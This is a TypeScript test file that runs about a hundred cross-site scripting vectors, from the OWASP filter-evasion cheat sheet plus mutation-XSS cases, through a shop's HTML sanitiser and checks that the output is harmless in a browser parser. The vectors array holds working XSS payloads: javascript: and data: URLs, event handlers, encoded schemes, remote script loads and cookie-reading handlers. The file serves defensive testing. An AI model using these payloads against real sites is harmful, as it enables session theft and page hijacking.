import { sanitizeHtml } from "@/lib/server/html/sanitize-html";

// Issue 21 item 4: the OWASP "XSS Filter Evasion Cheat Sheet" vectors (and the mutation-XSS classics)
// through the seller-HTML sanitiser. "Harmless" is judged the way a browser sees the answer: the output
// is parsed by an HTML parser (jsdom's, as the page's own parser would) and every element must be on the
// allow-list, every attribute one of its tag's, every URL http(s), mailto, tel or relative, every link
// opened in a new tab without a handle on the shop; the output must also sanitise to itself (nothing
// left that a second pass would still change, the mark of a parser differential).

const allowedAttributes: Record<string, readonly string[]> = {
  a: ["href", "title", "target", "rel"],
  img: ["src", "alt", "width", "height"],
  td: ["colspan", "rowspan"],
  th: ["colspan", "rowspan"],
};
const allowedTags = new Set([
  "a", "b", "blockquote", "br", "code", "div", "em", "h2", "h3", "h4", "hr", "i", "img", "li", "ol", "p", "pre",
  "s", "small", "span", "strong", "sub", "sup", "table", "tbody", "td", "th", "thead", "tr", "u", "ul",
]);
const safeProtocols = new Set(["http:", "https:", "mailto:", "tel:"]);

/** Why the HTML is not harmless to a browser, or [] when it is. */
function dangersIn(html: string): string[] {
  const template = document.createElement("template");
  template.innerHTML = html;
  const found: string[] = [];
  for (const element of template.content.querySelectorAll("*")) {
    const tag = element.localName;
    if (!allowedTags.has(tag) || element.namespaceURI !== "http://www.w3.org/1999/xhtml") found.push(`element <${tag}>`);
    for (const { name, value } of Array.from(element.attributes)) {
      if (!(allowedAttributes[tag] ?? []).includes(name)) found.push(`attribute ${name} on <${tag}>`);
      if (name === "href" || name === "src") {
        const protocol = new URL(value, "https://shop.test/").protocol;
        if (!safeProtocols.has(protocol)) found.push(`${protocol} URL in ${name}`);
      }
    }
    if (tag === "a" && (element.getAttribute("target") !== "_blank" || element.getAttribute("rel") !== "noopener noreferrer")) found.push("a link without target/rel");
  }
  return found;
}

// [name, vector] — the cheat sheet's cases, in its order, then mutation XSS and a few of our own.
const vectors: [string, string][] = [
  ["basic script", '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>'],
  ["polyglot", "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"],
  ["img javascript: url", "<IMG SRC=\"javascript:alert('XSS');\">"],
  ["no quotes, no semicolon", "<IMG SRC=javascript:alert('XSS')>"],
  ["case insensitive", "<IMG SRC=JaVaScRiPt:alert('XSS')>"],
  ["html entities", '<IMG SRC=javascript:alert(&quot;XSS&quot;)>'],
  ["grave accents", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"],
  ["malformed a, quoted handler", '<a onmouseover="alert(document.cookie)">xxs link</a>'],
  ["malformed a, bare handler", "<a onmouseover=alert(document.cookie)>xxs link</a>"],
  ["malformed img", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'],
  ["fromCharCode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"],
  ["default src, handler", "<IMG SRC=# onmouseover=\"alert('xxs')\">"],
  ["empty src, handler", "<IMG SRC= onmouseover=\"alert('xxs')\">"],
  ["no src, handler", "<IMG onmouseover=\"alert('xxs')\">"],
  ["onerror alert", '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
  ["onerror, encoded", '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">'],
  ["decimal entities", "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"],
  ["long decimal, no semicolons", "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>"],
  ["hex, no semicolons", "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>"],
  ["embedded tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">"],
  ["encoded tab", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">"],
  ["encoded newline", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">"],
  ["encoded carriage return", "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">"],
  ["null byte", '<IMG SRC=java\u0000script:alert("XSS")>'],
  ["spaces and meta before javascript:", "<IMG SRC=\" &#14;  javascript:alert('XSS');\">"],
  ["non-alpha-non-digit tag name", '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'],
  ["non-alpha-non-digit handler", '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ["slash instead of space", '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>'],
  ["extraneous open brackets", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'],
  ["no closing script tag", "<SCRIPT SRC=http://xss.rocks/xss.js?< B >"],
  ["protocol resolution in script", "<SCRIPT SRC=//xss.rocks/.j>"],
  ["half open html/js", "<IMG SRC=\"`<javascript:alert>`('XSS')\""],
  ["double open angle brackets", "<iframe src=http://xss.rocks/scriptlet.html <"],
  ["end title tag", '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'],
  ["input image", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">"],
  ["body image", "<BODY BACKGROUND=\"javascript:alert('XSS')\">"],
  ["img dynsrc", "<IMG DYNSRC=\"javascript:alert('XSS')\">"],
  ["img lowsrc", "<IMG LOWSRC=\"javascript:alert('XSS')\">"],
  ["list-style-image", "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>"],
  ["vbscript in an image", "<IMG SRC='vbscript:msgbox(\"XSS\")'>"],
  ["svg object tag", "<svg/onload=alert('XSS')>"],
  ["body onload", "<BODY ONLOAD=alert('XSS')>"],
  ["bgsound", "<BGSOUND SRC=\"javascript:alert('XSS');\">"],
  ["stylesheet link", "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">"],
  ["remote style sheet @import", "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>"],
  ["remote style sheet by meta", '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">'],
  ["style attribute expression", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">"],
  ["div background-image", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">"],
  ["div background-image, escaped unicode", "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">"],
  ["div expression", "<DIV STYLE=\"width: expression(alert('XSS'));\">"],
  ["anonymous element with behaviour", '<XSS STYLE="behavior: url(xss.htc);">'],
  ["meta refresh javascript:", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">"],
  ["meta refresh data:", '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'],
  ["iframe javascript:", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>"],
  ["iframe event", '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'],
  ["frame", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>"],
  ["table background", "<TABLE BACKGROUND=\"javascript:alert('XSS')\">"],
  ["td background", "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">"],
  ["object scriptlet", '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>'],
  ["embed svg with script", '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>'],
  ["base tag", "<BASE HREF=\"javascript:alert('XSS');//\">"],
  ["downlevel-hidden conditional comment", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"],
  ["cdata", "<![CDATA[<script>alert(1)</script>]]>"],
  ["xml data island", '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>'],
  ["a data: url", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ["a data: url with markup", '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ["a vbscript: url", '<a href="vbscript:msgbox(1)">x</a>'],
  ["a hex-encoded scheme letter", '<a href="&#x6A;avascript:alert(1)">x</a>'],
  ["a encoded colon", '<a href="javascript&#58;alert(1)">x</a>'],
  ["a named-entity colon", '<a href="javascript&colon;alert(1)">x</a>'],
  ["a leading spaces", '<a href="   javascript:alert(1)">x</a>'],
  ["a leading control character", '<a href="\u0001javascript:alert(1)">x</a>'],
  ["a newline inside the scheme", '<a href="java\nscript:alert(1)">x</a>'],
  ["a handler beside a good href", '<a href="https://ok.test" onclick="alert(1)">x</a>'],
  ["a target and opener", '<a href="https://ok.test" target="_self" rel="opener">x</a>'],
  ["img data: svg", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ["svg link with xlink:href", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'],
  ["math mglyph mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"],
  ["svg style mutation", "<p><svg><style><img src=x onerror=alert(1)></style></svg></p>"],
  ["noscript mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ["template content", "<template><img src=x onerror=alert(1)></template>"],
  ["textarea breakout", '<textarea></textarea><img src=x onerror=alert(1)>'],
  ["title breakout", "<title></title><img src=x onerror=alert(1)>"],
  ["nested script", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
  ["unclosed img with handler", '<img src="x" onerror="alert(1)"'],
  ["unclosed attribute", '<img src="x onerror=alert(1)>'],
  ["double angle img", "<<img src=x onerror=alert(1)//>"],
  ["form action", '<form action="javascript:alert(1)"><button>x</button></form>'],
  ["button formaction", '<button formaction="javascript:alert(1)">x</button>'],
  ["details ontoggle", "<details open ontoggle=alert(1)>"],
  ["video source onerror", '<video><source onerror="alert(1)"></video>'],
  ["iframe srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ["attribute breakout by entities", '<a href="/x" title="a&quot; onmouseover=&quot;alert(1)">t</a>'],
  ["uppercase handler on allowed tag", '<P ONCLICK="alert(1)">t</P>'],
  ["handler on a table cell", '<table><tr><td onmouseover="alert(1)" colspan="2">c</td></tr></table>'],
  ["object without content", "<object data=javascript:alert(1)>"],
  ["isindex", '<isindex action="javascript:alert(1)" type="image">'],
  ["marquee", "<marquee onstart=alert(1)>x</marquee>"],
];

describe("sanitizeHtml against the OWASP XSS filter-evasion vectors", () => {
  it("has a good selection of vectors", () => {
    expect(vectors.length).toBeGreaterThanOrEqual(80);
    expect(new Set(vectors.map(([name]) => name)).size).toBe(vectors.length);
  });

  it("the browser-side check itself catches what it must", () => {
    expect(dangersIn('<img src=x onerror="alert(1)">')).toEqual(["attribute onerror on <img>"]);
    expect(dangersIn('<a href="javascript:alert(1)" target="_blank" rel="noopener noreferrer">x</a>')).toEqual(["javascript: URL in href"]);
    expect(dangersIn("<svg><script>alert(1)</script></svg>")).toContain("element <svg>");
    expect(dangersIn('<p style="x">t</p>')).toEqual(["attribute style on <p>"]);
    expect(dangersIn('<a href="/ok" target="_blank" rel="noopener noreferrer">ok</a><img src="https://x.test/a.png" alt="">')).toEqual([]);
  });

  it.each(vectors)("%s is rendered harmless", (_name, vector) => {
    const out = sanitizeHtml(vector);
    expect(dangersIn(out)).toEqual([]);
    expect(out).not.toMatch(/<\s*\/?\s*(script|style|iframe|svg|math|object|embed|meta|link|base|form|body)\b/i);
    expect(sanitizeHtml(out)).toBe(out);
  });
});
